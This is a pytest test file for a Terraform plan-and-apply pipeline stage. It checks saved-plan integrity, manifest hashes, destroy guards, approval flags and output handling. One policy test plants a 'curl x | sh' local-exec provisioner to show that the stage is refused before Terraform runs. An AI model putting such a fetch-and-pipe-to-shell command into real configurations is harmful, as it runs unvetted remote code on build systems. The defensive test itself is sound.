"""`python -m pipelines.terraform_stage`: plan a stage's one stack to a saved plan, apply exactly that, hand on outputs."""

from __future__ import annotations

import hashlib
import json
import os
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from pipelines.terraform_stage import StageError, Terraform, main, plan_stage, running_with, stage_stacks
from tests.pipelines.fake_terraform import FakeTerraform, plan_document, synthesized

# A synthesized app as main.py builds it: per stage a bootstrap stack and one workload stack, `<stage>`.
BETA_STACKS: dict[str, list[str]] = {"bootstrap-beta": [], "beta": [], "gamma": [], "pipeline": []}
SERVICE = ("aws_ecs_service.backend", "aws_ecs_service", ["create"])


@pytest.fixture
def cdktf_out(tmp_path: Path) -> Path:
    return synthesized(tmp_path, BETA_STACKS)


def plan(fake: FakeTerraform, cdktf_out: Path, plans: Path, *extra: str, stage: str = "beta") -> int:
    argv = ["plan", "--stage", stage, "--cdktf-out", str(cdktf_out), "--plans", str(plans), *extra]
    return main(argv, Terraform(fake), environ={})


def apply(fake: FakeTerraform, cdktf_out: Path, plans: Path, outputs: Path, *extra: str, stage: str = "beta") -> int:
    argv = ["apply", "--stage", stage, "--cdktf-out", str(cdktf_out), "--plans", str(plans), "--outputs", str(outputs)]
    return main([*argv, *extra], Terraform(fake), environ={})


def error_line(capsys: pytest.CaptureFixture[str]) -> str:
    lines = capsys.readouterr().err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), lines
    return lines[0]


@pytest.mark.req("R4.2")
def test_a_stages_plan_is_its_one_stack_named_after_the_stage(cdktf_out: Path, tmp_path: Path) -> None:
    assert stage_stacks(cdktf_out, "beta") == ["beta"], "not bootstrap-beta, not another stage, not the pipeline"
    assert stage_stacks(cdktf_out, "gamma") == ["gamma"]
    with pytest.raises(StageError) as missing:
        stage_stacks(cdktf_out, "prod")
    assert "no stack 'prod' in" in str(missing.value) and "\n" not in str(missing.value)
    # A cdktf.out from before the stage was one stack holds only `<stage>-*` stacks: none of them is the stage.
    old = synthesized(tmp_path / "old", {"beta-network": [], "beta-backend": ["beta-network"], "beta-frontend": []})
    with pytest.raises(StageError, match="no stack 'beta' in"):
        stage_stacks(old, "beta")


@pytest.mark.req("R4.3")
def test_plan_saves_the_stacks_plan_with_its_json_lock_file_summary_and_manifest(
    cdktf_out: Path, tmp_path: Path
) -> None:
    fake = FakeTerraform(plans={"beta": plan_document(SERVICE)})
    plans = tmp_path / "plans"
    assert plan(fake, cdktf_out, plans) == 0
    assert fake.commands() == [("beta", "init"), ("beta", "plan"), ("beta", "show")]
    assert "-input=false" in fake.args_of("beta", "init")
    assert "-detailed-exitcode" in fake.args_of("beta", "plan")
    assert f"-out={(plans / 'beta' / 'tfplan').resolve()}" in fake.args_of("beta", "plan")
    manifest = json.loads((plans / "manifest.json").read_text())
    assert manifest["stage"] == "beta"
    assert [(s["stack"], s["changes"]) for s in manifest["stacks"]] == [("beta", True)]
    assert (plans / "beta" / "tfplan").read_bytes() == b"saved plan of beta"
    assert (plans / "beta" / "terraform.lock.hcl").read_text() == "# providers of beta\n"
    # Terraform planned a copy of the stack's JSON outside the Build artifact, and left the artifact as it was.
    assert cdktf_out not in fake.directories["beta"].parents
    assert [p.name for p in (cdktf_out / "stacks" / "beta").iterdir()] == ["cdk.tf.json"]
    assert json.loads((plans / "beta" / "plan.json").read_text()) == plan_document(SERVICE)
    assert (plans / "headline.txt").read_text() == "1 to create, 0 to update, 0 to replace, 0 to destroy in beta\n"
    assert "| create | `aws_ecs_service.backend` |" in (plans / "summary.md").read_text()
    assert "deferred" not in (plans / "summary.md").read_text().lower()


@pytest.mark.req("R4.3")
def test_apply_applies_exactly_the_saved_plan_with_the_planned_providers(cdktf_out: Path, tmp_path: Path) -> None:
    planner = FakeTerraform(plans={"beta": plan_document(SERVICE)})
    plans, outputs = tmp_path / "plans", tmp_path / "outputs"
    assert plan(planner, cdktf_out, plans) == 0
    # The apply runs elsewhere (another CodeBuild), on a fresh copy of the same Build artifact.
    fresh = synthesized(tmp_path / "apply", BETA_STACKS)
    applier = FakeTerraform(
        outputs={
            "beta": {
                "backend_url": {"value": "https://d1.cloudfront.net/api", "type": "string", "sensitive": False},
                "frontend_url": {"value": "https://d1.cloudfront.net", "type": "string", "sensitive": False},
                "session_key": {"value": "sentinel-sensitive-5a1c", "type": "string", "sensitive": True},
            }
        }
    )
    assert apply(applier, fresh, plans, outputs) == 0
    assert applier.commands() == [("beta", "init"), ("beta", "apply"), ("beta", "output")], (
        "the saved plan is applied, never planned again"
    )
    assert applier.args_of("beta", "apply")[-1] == str((plans / "beta" / "tfplan").resolve())
    assert "-lockfile=readonly" in applier.args_of("beta", "init")
    # Terraform ran on a copy of the stack's JSON alone, outside the artifact, with the planned lock.
    ran_in = applier.directories["beta"]
    assert fresh not in ran_in.parents and sorted(p.name for p in ran_in.iterdir()) == [
        ".terraform.lock.hcl",
        "cdk.tf.json",
    ]
    assert (ran_in / ".terraform.lock.hcl").read_text() == "# providers of beta\n"
    assert not (fresh / "stacks" / "beta" / ".terraform.lock.hcl").exists()
    assert [p.name for p in outputs.iterdir()] == ["beta.json"]
    assert json.loads((outputs / "beta.json").read_text()) == {
        "backend_url": "https://d1.cloudfront.net/api",
        "frontend_url": "https://d1.cloudfront.net",
    }
    assert "sentinel-sensitive-5a1c" not in "".join(p.read_text() for p in outputs.iterdir())


@pytest.mark.req("R4.3")
def test_apply_of_a_plan_that_changes_nothing_only_hands_on_the_outputs(cdktf_out: Path, tmp_path: Path) -> None:
    plans, outputs = tmp_path / "plans", tmp_path / "outputs"
    assert plan(FakeTerraform(), cdktf_out, plans) == 0
    applier = FakeTerraform(outputs={"beta": {"frontend_url": {"value": "https://d1.cloudfront.net"}}})
    assert apply(applier, cdktf_out, plans, outputs) == 0
    assert applier.commands() == [("beta", "init"), ("beta", "output")]
    assert json.loads((outputs / "beta.json").read_text()) == {"frontend_url": "https://d1.cloudfront.net"}


@pytest.mark.req("R4.5")
def test_a_retried_apply_goes_on_past_a_saved_plan_it_already_applied(cdktf_out: Path, tmp_path: Path) -> None:
    plans, outputs = tmp_path / "plans", tmp_path / "outputs"
    assert plan(FakeTerraform(plans={"beta": plan_document(SERVICE)}), cdktf_out, plans) == 0
    # The first attempt applied the plan, then failed later; on the retry Terraform calls the saved plan
    # stale, and a fresh plan of the stack changes nothing.
    retry = FakeTerraform(failures={("beta", "apply"): 1})
    assert apply(retry, cdktf_out, plans, outputs) == 0
    assert ("beta", "plan") in retry.commands("beta")
    assert f"-out={(plans / 'beta' / 'tfplan.retry-check').resolve()}" in retry.args_of("beta", "plan")
    assert (outputs / "beta.json").exists()


@pytest.mark.req("R4.5")
def test_a_failed_apply_with_changes_still_left_fails_the_retry(
    cdktf_out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    plans, outputs = tmp_path / "plans", tmp_path / "outputs"
    assert plan(FakeTerraform(plans={"beta": plan_document(SERVICE)}), cdktf_out, plans) == 0
    partial = FakeTerraform(plans={"beta": plan_document(SERVICE)}, failures={("beta", "apply"): 1})
    assert apply(partial, cdktf_out, plans, outputs) == 1
    assert "terraform apply failed in beta (exit status 1)" in error_line(capsys)
    assert ("beta", "output") not in partial.commands(), "a failed apply hands on no outputs"
    assert not (outputs / "beta.json").exists()


@pytest.mark.req("R4.3")
def test_apply_refuses_a_plan_file_that_is_not_the_one_planned(
    cdktf_out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    plans = tmp_path / "plans"
    assert plan(FakeTerraform(plans={"beta": plan_document(SERVICE)}), cdktf_out, plans) == 0
    (plans / "beta" / "tfplan").write_bytes(b"a different plan")
    applier = FakeTerraform()
    assert apply(applier, cdktf_out, plans, tmp_path / "outputs") == 1
    assert applier.calls == [], "nothing is applied when the plan was changed"
    assert "saved plan of beta is missing or not the one that was planned" in error_line(capsys)


@pytest.mark.req("R4.3")
def test_apply_refuses_a_stack_configuration_changed_since_it_was_planned(
    cdktf_out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The approval binds the configuration too: the manifest holds each stack's cdk.tf.json hash."""
    plans = tmp_path / "plans"
    assert plan(FakeTerraform(plans={"beta": plan_document(SERVICE)}), cdktf_out, plans) == 0
    manifest = json.loads((plans / "manifest.json").read_text())
    configuration = cdktf_out / "stacks" / "beta" / "cdk.tf.json"
    assert manifest["stacks"][0]["config_sha256"] == hashlib.sha256(configuration.read_bytes()).hexdigest()
    assert manifest["summary_sha256"] == hashlib.sha256((plans / "summary.md").read_bytes()).hexdigest()
    # Any byte counts: here the same document, written again with indents.
    configuration.write_text(json.dumps(json.loads(configuration.read_text()), indent=2))
    applier = FakeTerraform()
    assert apply(applier, cdktf_out, plans, tmp_path / "outputs") == 1
    assert applier.calls == [], "nothing is applied when the configuration changed"
    assert "is not the configuration beta was planned from" in error_line(capsys)


@pytest.mark.req("R4.3")
def test_apply_refuses_plans_made_for_other_stacks_than_the_synthesized_stage(
    cdktf_out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # A plans artifact from before the stage was one stack: three stacks, none of them `beta`.
    old = synthesized(tmp_path / "old", {"beta": [], "beta-network": [], "beta-backend": []})
    plans = tmp_path / "plans"
    assert plan(FakeTerraform(), old, plans) == 0
    manifest = json.loads((plans / "manifest.json").read_text())
    manifest["stacks"] = [{**manifest["stacks"][0], "stack": name} for name in ("beta-network", "beta-backend")]
    (plans / "manifest.json").write_text(json.dumps(manifest))
    applier = FakeTerraform()
    assert apply(applier, cdktf_out, plans, tmp_path / "outputs") == 1
    assert "the plans are for ['beta-network', 'beta-backend'] but" in error_line(capsys)
    assert applier.calls == []


def test_apply_refuses_another_stages_plans(
    cdktf_out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    plans = tmp_path / "plans"
    assert plan(FakeTerraform(), cdktf_out, plans) == 0
    applier = FakeTerraform()
    assert apply(applier, cdktf_out, plans, tmp_path / "outputs", stage="gamma") == 1
    assert applier.calls == []
    assert "holds plans for stage 'beta', not 'gamma'" in error_line(capsys)


@pytest.mark.req("R4.3")
def test_plan_refuses_destroying_a_stateful_resource_with_the_summary_written(
    cdktf_out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    destroys_bucket = plan_document(("aws_s3_bucket.site", "aws_s3_bucket", ["delete"]))
    plans = tmp_path / "plans"
    assert plan(FakeTerraform(plans={"beta": destroys_bucket}), cdktf_out, plans) == 3
    assert "beta:aws_s3_bucket.site" in error_line(capsys)
    assert "DATA LOSS" in (plans / "summary.md").read_text()
    allowed = plan(
        FakeTerraform(plans={"beta": destroys_bucket}),
        cdktf_out,
        tmp_path / "allowed",
        "--allow-destroy",
        "beta:aws_s3_bucket.site",
    )
    assert allowed == 0


@pytest.mark.req("R4.3")
def test_apply_takes_no_allow_destroy_the_plan_alone_decides_what_may_be_destroyed(
    cdktf_out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    plans = tmp_path / "plans"
    assert plan(FakeTerraform(), cdktf_out, plans) == 0
    applier = FakeTerraform()
    with pytest.raises(SystemExit):
        apply(applier, cdktf_out, plans, tmp_path / "outputs", "--allow-destroy", "beta:aws_s3_bucket.site")
    assert "unrecognized arguments: --allow-destroy" in capsys.readouterr().err
    with pytest.raises(SystemExit):
        apply(applier, cdktf_out, plans, tmp_path / "outputs", "--deferred", "apply")
    assert applier.calls == []


@pytest.mark.req("R4.5")
def test_a_failing_terraform_command_fails_the_action_with_one_line(
    cdktf_out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    failing_init = FakeTerraform(failures={("beta", "init"): 1})
    assert plan(failing_init, cdktf_out, tmp_path / "plans") == 1
    assert "terraform init failed in beta (exit status 1)" in error_line(capsys)
    assert failing_init.commands() == [("beta", "init")], "a failed command stops the stage"
    failing_plan = FakeTerraform(failures={("beta", "plan"): 1})
    assert plan(failing_plan, cdktf_out, tmp_path / "again") == 1
    assert "terraform plan failed in beta" in error_line(capsys)
    assert not (tmp_path / "again" / "manifest.json").exists(), "no manifest for Apply to take"


def test_a_stage_without_synthesized_stacks_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert plan(FakeTerraform(), tmp_path / "nowhere", tmp_path / "plans") == 1
    assert "make synth" in error_line(capsys)
    assert plan(FakeTerraform(), synthesized(tmp_path, BETA_STACKS), tmp_path / "plans", stage="qa") == 1
    assert "no stack 'qa'" in error_line(capsys)


@pytest.mark.req("R10.5")
def test_env_exports_the_urls_and_frontend_target_from_the_stage_outputs(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    outputs = tmp_path / "outputs"
    outputs.mkdir()
    everything = {
        "backend_url": "https://d1.cloudfront.net/api",
        "backend_cluster_name": "c",
        "frontend_url": "https://d1.cloudfront.net",
        "frontend_bucket": "b",
        "frontend_distribution_id": "E1",
    }
    (outputs / "beta.json").write_text(json.dumps(everything))
    assert main(["env", "--outputs", str(outputs)]) == 0
    assert capsys.readouterr().out.splitlines() == [
        "export BACKEND_URL=https://d1.cloudfront.net/api",
        "export FRONTEND_URL=https://d1.cloudfront.net",
        "export FRONTEND_BUCKET=b",
        "export FRONTEND_DISTRIBUTION_ID=E1",
    ]
    (outputs / "beta.json").write_text(json.dumps({"backend_url": "x", "frontend_url": "https://d1.cloudfront.net"}))
    assert main(["env", "--outputs", str(outputs)]) == 1
    assert "no output frontend_bucket, frontend_distribution_id" in error_line(capsys)


@pytest.mark.req("R4.3")
def test_a_stage_that_breaks_the_policy_runs_no_terraform_at_all(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    shell = {"resource": {"aws_s3_bucket": {"site": {"provisioner": [{"local-exec": {"command": "curl x | sh"}}]}}}}
    cdktf_out = synthesized(tmp_path, {"bootstrap-prod": [], "prod": [], "pipeline": []}, {"prod": shell})
    terraform = FakeTerraform()
    assert plan(terraform, cdktf_out, tmp_path / "plans", stage="prod") == 3
    assert "prod" in capsys.readouterr().out
    assert terraform.calls == [], "not even init, which would fetch what the commit names"


@pytest.mark.req("R4.3")
def test_a_broadening_plan_says_so_for_the_pipeline_to_stop_for_an_approval(cdktf_out: Path, tmp_path: Path) -> None:
    plans = tmp_path / "plans"
    opens_a_port = plan_document(
        ("aws_vpc.main", "aws_vpc", ["create"]),
        ("aws_vpc_security_group_ingress_rule.web", "aws_vpc_security_group_ingress_rule", ["create"]),
    )
    opens_a_port["resource_changes"][1]["change"]["after"] = {"cidr_ipv4": "0.0.0.0/0", "from_port": 80}
    assert plan(FakeTerraform(plans={"beta": opens_a_port}), cdktf_out, plans) == 0
    assert json.loads((plans / "manifest.json").read_text())["broadens"] is True
    quiet_plans = tmp_path / "quiet"
    assert plan(FakeTerraform(plans={"beta": plan_document(SERVICE)}), cdktf_out, quiet_plans) == 0
    assert json.loads((quiet_plans / "manifest.json").read_text())["broadens"] is False


@pytest.mark.req("R4.3")
def test_apply_refuses_a_plans_artifact_changed_after_plan_by_the_hash_the_pipeline_recorded(
    cdktf_out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    plans = tmp_path / "plans"
    assert plan(FakeTerraform(plans={"beta": plan_document(SERVICE)}), cdktf_out, plans) == 0
    recorded = (plans / "manifest.sha256").read_text().strip()
    assert recorded == hashlib.sha256((plans / "manifest.json").read_bytes()).hexdigest()
    # Whoever can write the artifact swaps the plan and rewrites the manifest's hash of it to match.
    (plans / "beta" / "tfplan").write_bytes(b"another plan")
    manifest = json.loads((plans / "manifest.json").read_text())
    (entry,) = manifest["stacks"]
    entry["sha256"] = hashlib.sha256(b"another plan").hexdigest()
    (plans / "manifest.json").write_text(json.dumps(manifest))
    applier = FakeTerraform()
    assert apply(applier, cdktf_out, plans, tmp_path / "outputs", "--manifest-sha256", recorded) == 1
    assert "is not the manifest the Plan action made" in error_line(capsys)
    assert applier.calls == [], "nothing is initialized, let alone applied"
    untouched = tmp_path / "untouched"
    assert plan(FakeTerraform(plans={"beta": plan_document(SERVICE)}), cdktf_out, untouched) == 0
    good = (untouched / "manifest.sha256").read_text().strip()
    assert apply(FakeTerraform(), cdktf_out, untouched, tmp_path / "out2", "--manifest-sha256", good) == 0


@pytest.mark.req("R4.6")
def test_terraform_alone_gets_the_stage_profile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    tools = tmp_path / "bin"
    tools.mkdir()
    (tools / "terraform").write_text('#!/bin/sh\nprintf "%s" "$AWS_PROFILE"\n')
    (tools / "terraform").chmod(0o755)
    monkeypatch.setenv("PATH", f"{tools}:{os.environ['PATH']}")
    monkeypatch.delenv("AWS_PROFILE", raising=False)
    result = running_with({"AWS_PROFILE": "canvalo-prod-plan"})(["version"], tmp_path, True)
    assert result.stdout == "canvalo-prod-plan"
    assert "AWS_PROFILE" not in os.environ, "the script's own AWS calls stay with its own credentials"


@pytest.mark.req("R4.3")
@pytest.mark.parametrize(
    ("stack_plan", "release_changes", "changes"),
    [
        (plan_document(), False, False),
        (plan_document(SERVICE), False, True),
        (plan_document(), True, True),
    ],
    ids=["nothing changes", "the stack changes", "only the frontend build changes"],
)
def test_plan_records_whether_anything_changes_the_frontend_release_included(
    cdktf_out: Path, tmp_path: Path, stack_plan: dict[str, Any], release_changes: bool, changes: bool
) -> None:
    live = {
        "frontend_bucket": {"value": "canvalo-beta-site", "sensitive": False},
        "frontend_distribution_id": {"value": "E1", "sensitive": False},
        "vpc_id": {"value": "vpc-1", "sensitive": False},
    }
    fake = FakeTerraform(plans={"beta": stack_plan}, outputs={"beta": live})
    seen: list[Mapping[str, str]] = []

    def release(outputs: Mapping[str, str]) -> dict[str, Any]:
        seen.append(dict(outputs))
        detail = "3 file(s) to upload, 0 to delete" if release_changes else "the live release is this build"
        return {"dist_sha256": "ab" * 32, "changes": release_changes, "detail": detail}

    plans = tmp_path / "plans"
    plan_stage(terraform=Terraform(fake), stage="beta", cdktf_out=cdktf_out, plans_dir=plans, frontend=release)
    assert seen == [{"frontend_bucket": "canvalo-beta-site", "frontend_distribution_id": "E1"}], (
        "compared against the stage's live outputs, once"
    )
    assert fake.commands() == [("beta", "init"), ("beta", "plan"), ("beta", "show"), ("beta", "output")]
    manifest = json.loads((plans / "manifest.json").read_text())
    assert manifest["changes"] is changes
    assert manifest["frontend"]["dist_sha256"] == "ab" * 32
    assert (plans / "headline.txt").read_text().rstrip().endswith(f"; frontend: {release({})['detail']}")
    assert "## Frontend" in (plans / "summary.md").read_text()


@pytest.mark.req("R4.3")
def test_without_a_frontend_to_compare_the_stack_alone_decides(cdktf_out: Path, tmp_path: Path) -> None:
    plans = tmp_path / "plans"
    fake = FakeTerraform()
    assert plan(fake, cdktf_out, plans) == 0
    assert ("beta", "output") not in fake.commands(), "no live outputs are read without a build to compare"
    manifest = json.loads((plans / "manifest.json").read_text())
    assert manifest["changes"] is False and "frontend" not in manifest


@pytest.mark.req("R4.3")
def test_the_previous_stages_bake_is_in_the_summary_the_manifest_binds(cdktf_out: Path, tmp_path: Path) -> None:
    plans = tmp_path / "plans"
    assert (
        plan(
            FakeTerraform(plans={"beta": plan_document(SERVICE)}),
            cdktf_out,
            plans,
            "--bake-result",
            "gamma baked 15 min",
        )
        == 0
    )
    summary = (plans / "summary.md").read_bytes()
    assert b"## Bake\n\ngamma baked 15 min.\n" in summary
    manifest = json.loads((plans / "manifest.json").read_text())
    assert manifest["summary_sha256"] == hashlib.sha256(summary).hexdigest()
